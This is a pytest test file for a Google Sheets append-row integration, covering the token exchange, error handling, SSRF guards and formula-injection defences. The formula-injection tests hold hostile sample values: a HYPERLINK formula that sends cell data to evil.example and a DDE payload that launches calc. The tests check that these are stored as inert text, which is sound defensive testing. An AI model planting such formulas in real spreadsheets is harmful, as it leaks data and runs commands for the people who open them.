"""sheets.append_row through gspread + google-auth against local OAuth and Sheets peers."""

import pytest

from integrations.errors import ConfigError, PermanentError, RetryableError
from integrations.sheets.action import AppendRow
from integrations.tests.support import make_ctx
from testing.network import RecordingHTTPServer, Reply, service_account_key

action = AppendRow()
SHEET = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms"


@pytest.fixture
def google(allow_loopback, settings, fake_google):
    settings.POTAFLOW_GOOGLE_SHEETS_API_URL = fake_google.sheets_url
    settings.POTAFLOW_GOOGLE_DRIVE_API_URL = fake_google.drive_url
    fake_google.sheets[SHEET] = {"Orders": [["id", "email", "total"]], "Other": []}
    return fake_google


def ctx(google, **kwargs):
    return make_ctx({"key": service_account_key(google.token_uri)}, "google_service_account", **kwargs)


def test_it_appends_a_row_after_a_signed_token_exchange(google):
    out = action.run(
        {"spreadsheet": SHEET, "worksheet": "Orders", "values": ["42", "ada@example.com", 19.5],
         "value_input_option": "USER_ENTERED"},
        ctx(google),
    )  # fmt: skip
    token_req = google.requests[0]
    assert (token_req.method, token_req.path) == ("POST", "/token")
    assert token_req.form()["grant_type"] == ["urn:ietf:params:oauth:grant-type:jwt-bearer"]
    (claims,) = google.assertions  # verified against the generated key's public half
    assert claims["iss"] == "potaflow@test-project.iam.gserviceaccount.com"
    assert claims["aud"] == "https://oauth2.googleapis.com/token"
    assert claims["scope"] == "https://www.googleapis.com/auth/spreadsheets"
    append = google.requests[-1]
    assert (append.method, append.path) == ("POST", f"/v4/spreadsheets/{SHEET}/values/'Orders':append")
    assert append.query["valueInputOption"] == ["USER_ENTERED"]
    assert append.query["insertDataOption"] == ["INSERT_ROWS"]
    assert append.headers["authorization"].startswith("Bearer ya29.fake-")
    assert append.json() == {"values": [["42", "ada@example.com", 19.5]]}
    assert google.sheets[SHEET]["Orders"][-1] == ["42", "ada@example.com", 19.5]
    assert out == {"spreadsheet_id": SHEET, "worksheet": "Orders", "updated_range": "Orders!A2:C2",
                   "updated_rows": 1, "updated_cells": 3}  # fmt: skip


def test_a_spreadsheet_url_and_the_default_worksheet_work_with_raw_values(google):
    url = f"https://docs.google.com/spreadsheets/d/{SHEET}/edit#gid=0"
    out = action.run({"spreadsheet": url, "values": ["=1+1", None]}, ctx(google))
    append = google.requests[-1]
    assert append.query["valueInputOption"] == ["RAW"]
    assert append.json() == {"values": [["=1+1", ""]]}
    assert out["worksheet"] == "Orders"


def test_a_sheet_not_shared_with_the_service_account_is_permanent(google):
    google.forbidden.add(SHEET)
    with pytest.raises(PermanentError, match="not shared with the service account potaflow@test-project"):
        action.run({"spreadsheet": SHEET, "values": ["x"]}, ctx(google))


def test_a_missing_sheet_is_permanent(google):
    with pytest.raises(PermanentError, match="does not exist"):
        action.run({"spreadsheet": "nope", "values": ["x"]}, ctx(google))


def test_a_missing_worksheet_names_the_available_ones(google):
    with pytest.raises(PermanentError, match="worksheet 'Sales' not found.*'Orders', 'Other'"):
        action.run({"spreadsheet": SHEET, "worksheet": "Sales", "values": ["x"]}, ctx(google))


@pytest.mark.parametrize("status", [429, 500, 503])
def test_rate_limits_and_server_errors_are_retryable(google, status):
    google.failures.append(
        Reply(status, {"error": {"code": status, "message": "Quota exceeded", "status": "RESOURCE_EXHAUSTED"}},
              {"Retry-After": "9"})
    )  # fmt: skip
    with pytest.raises(RetryableError, match=f"answered {status}") as exc:
        action.run({"spreadsheet": SHEET, "values": ["x"]}, ctx(google))
    assert exc.value.retry_after == 9


def test_a_key_the_token_endpoint_rejects_is_permanent(google):
    key = service_account_key(google.token_uri, unknown=True)  # signed with a key Google does not know
    with pytest.raises(PermanentError, match="refused the service-account key.*invalid_grant"):
        action.run({"spreadsheet": SHEET, "values": ["x"]}, make_ctx({"key": key}, "google_service_account"))


def test_a_private_token_uri_is_blocked(no_exceptions, fake_google):
    key = service_account_key(fake_google.token_uri)
    with pytest.raises(PermanentError, match="blocked destination"):
        action.run({"spreadsheet": SHEET, "values": ["x"]}, make_ctx({"key": key}, "google_service_account"))
    assert fake_google.requests == []


# -- odd Google answers ----------------------------------------------------------
HTML_502 = Reply(502, "<html><body>Bad Gateway</body></html>", {"Content-Type": "text/html"})


def test_an_html_502_from_the_sheets_api_is_retryable(google):
    google.failures.append(HTML_502)
    with pytest.raises(RetryableError, match="answered 502.*Bad Gateway"):
        action.run({"spreadsheet": SHEET, "values": ["x"]}, ctx(google))


@pytest.mark.parametrize("body", [b"", b"<html>ok?</html>", b"[1]"])
def test_a_200_from_the_sheets_api_that_is_not_json_is_retryable_and_says_so(google, body):
    # spreadsheets.get succeeds; values:append answers 200 with something that is not the documented object
    google.route(
        "POST", f"/v4/spreadsheets/{SHEET}/values/'Orders':append", Reply(200, body, {"Content-Type": "text/html"})
    )
    with pytest.raises(RetryableError, match="not the JSON object the API documents"):
        action.run({"spreadsheet": SHEET, "values": ["x"]}, ctx(google))


@pytest.mark.parametrize("body", [b"<html>hello</html>", b"[]", b'{"token_type": "Bearer"}'])
def test_a_token_endpoint_200_without_a_token_is_retryable_and_says_so(google, body):
    google.route("POST", "/token", Reply(200, body, {"Content-Type": "text/html"}))
    with pytest.raises(RetryableError, match="token exchange"):
        action.run({"spreadsheet": SHEET, "values": ["x"]}, ctx(google))
    assert [r.path for r in google.requests] == ["/token"]


def test_a_token_endpoint_400_with_an_html_body_is_permanent(google):
    google.route("POST", "/token", Reply(400, "<html>Bad Request</html>", {"Content-Type": "text/html"}))
    with pytest.raises(PermanentError, match="refused the service-account key.*Bad Request"):
        action.run({"spreadsheet": SHEET, "values": ["x"]}, ctx(google))


def run_with_key(key):
    return action.run({"spreadsheet": SHEET, "values": ["x"]}, make_ctx({"key": key}, "google_service_account"))


def test_a_token_uri_redirect_to_a_blocked_address_is_refused(settings, fake_google):
    """Only the name ``localhost`` is allowed; its 302 to 127.0.0.1 (not allowed) must not be followed."""
    settings.POTAFLOW_ALLOW_PRIVATE_DESTINATIONS = ["localhost"]
    with RecordingHTTPServer() as metadata:
        fake_google.route("POST", "/token", Reply(302, b"", {"Location": f"{metadata.url}/latest/meta-data"}))
        key = service_account_key(f"http://localhost:{fake_google.port}/token")
        with pytest.raises(PermanentError, match="blocked destination: 127.0.0.1") as exc:
            run_with_key(key)
        assert "token" in exc.value.message
        assert [(r.method, r.path) for r in fake_google.requests] == [("POST", "/token")]
        assert metadata.requests == []


def test_dns_rebinding_cannot_move_the_token_exchange(settings, fake_google, fake_dns):
    """token_uri's host is resolved once; the connection goes to the checked address."""
    settings.POTAFLOW_ALLOW_PRIVATE_DESTINATIONS = ["127.0.0.1"]
    settings.POTAFLOW_GOOGLE_SHEETS_API_URL = fake_google.sheets_url
    fake_google.sheets[SHEET] = {"Orders": []}
    answers, calls = fake_dns
    answers["rebind.example"] = [["127.0.0.1"], ["127.0.0.2"]]  # first answer checked, later ones hostile
    with RecordingHTTPServer(host="127.0.0.2", port=fake_google.port) as internal:
        out = run_with_key(service_account_key(f"http://rebind.example:{fake_google.port}/token"))
        assert out["updated_rows"] == 1
        assert calls == ["rebind.example"]
        assert internal.requests == []
        token_req = fake_google.requests[0]
        assert (token_req.path, token_req.headers["host"]) == ("/token", f"rebind.example:{fake_google.port}")


def test_a_sheets_api_url_outside_the_allow_list_is_blocked(settings, fake_google):
    """The operator-set API base URLs pass the same guard: a private one must be allow-listed."""
    settings.POTAFLOW_ALLOW_PRIVATE_DESTINATIONS = ["localhost"]
    settings.POTAFLOW_GOOGLE_SHEETS_API_URL = fake_google.sheets_url  # 127.0.0.1: not allowed
    fake_google.sheets[SHEET] = {"Orders": []}
    with pytest.raises(PermanentError, match="blocked destination: 127.0.0.1"):
        run_with_key(service_account_key(f"http://localhost:{fake_google.port}/token"))
    assert [r.path for r in fake_google.requests] == ["/token"]
    assert fake_google.sheets[SHEET]["Orders"] == []


def test_config_validation():
    with pytest.raises(ConfigError, match="config.value_input_option"):
        action.validate_config({"spreadsheet": "k", "values": ["a"], "value_input_option": "FORMULA"})
    with pytest.raises(ConfigError, match="config.values"):
        action.validate_config({"spreadsheet": "k", "values": [{"nested": 1}]})
    action.validate_config({"spreadsheet": "k", "values": ["{{ trigger.body.id }}", 3]})


# -- formula injection (issue 23) ----------------------------------------------------
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


def test_would_be_formulas_from_templates_are_written_as_text_and_the_authors_stay_formulas(google):
    config = {"spreadsheet": SHEET, "worksheet": "Other", "value_input_option": "USER_ENTERED",
              "values": [*HOSTILE, "-3", "=SUM(1,2)"]}  # fmt: skip
    raw = {**config, "values": ["{{ trigger.body.a }}", "{{ trigger.body.b }}", "x {{ c }}", "{{ d }}", "{{ e }}",
                                "=SUM(1,2)"]}  # fmt: skip
    action.run(config, ctx(google, raw_config=raw))
    (row,) = google.cells(SHEET, "Other")
    assert row == [("text", HOSTILE[0]), ("text", HOSTILE[1]), ("text", HOSTILE[2]), ("text", HOSTILE[3]),
                   ("number", -3.0), ("formula", "=SUM(1,2)")]  # fmt: skip


def test_rows_from_a_parsed_file_are_appended_in_one_call_as_text(google):
    rows = [{"name": "Ada", "note": "=1+1"}, {"name": "Grace", "note": "ok"}]
    config = {"spreadsheet": SHEET, "worksheet": "Other", "rows": rows, "value_input_option": "USER_ENTERED"}
    with pytest.raises(PermanentError, match="config.columns"):
        action.run(config, ctx(google))
    out = action.run({**config, "columns": ["note", "name"]},
                     ctx(google, raw_config={"rows": "{{ steps.parse.output.rows }}"}))  # fmt: skip
    assert google.cells(SHEET, "Other") == [[("text", "=1+1"), ("text", "Ada")], [("text", "ok"), ("text", "Grace")]]
    assert out["updated_rows"] == 2 and len([r for r in google.requests if r.path.endswith(":append")]) == 1


def test_raw_input_never_makes_formulas(google):
    action.run({"spreadsheet": SHEET, "worksheet": "Other", "values": ["=1+1"]}, ctx(google))
    assert google.sheets[SHEET]["Other"] == [["=1+1"]] and google.cells(SHEET, "Other") == [[("text", "=1+1")]]


@pytest.mark.parametrize("value", [" =1+1", '\n=HYPERLINK("http://evil.example")', "\t=1+1", "\r@SUM(A1)", "  -2+3"])
def test_would_be_formulas_behind_blanks_are_written_as_text(google, value):
    """A spreadsheet that trims input (or a CSV export of the sheet) reads " =1+1" as a formula too."""
    config = {"spreadsheet": SHEET, "worksheet": "Other", "value_input_option": "USER_ENTERED",
              "values": [value, " -3"]}  # fmt: skip
    action.run(config, ctx(google, raw_config={**config, "values": ["{{ a }}", "{{ b }}"]}))
    assert google.sheets[SHEET]["Other"] == [["'" + value, " -3"]]
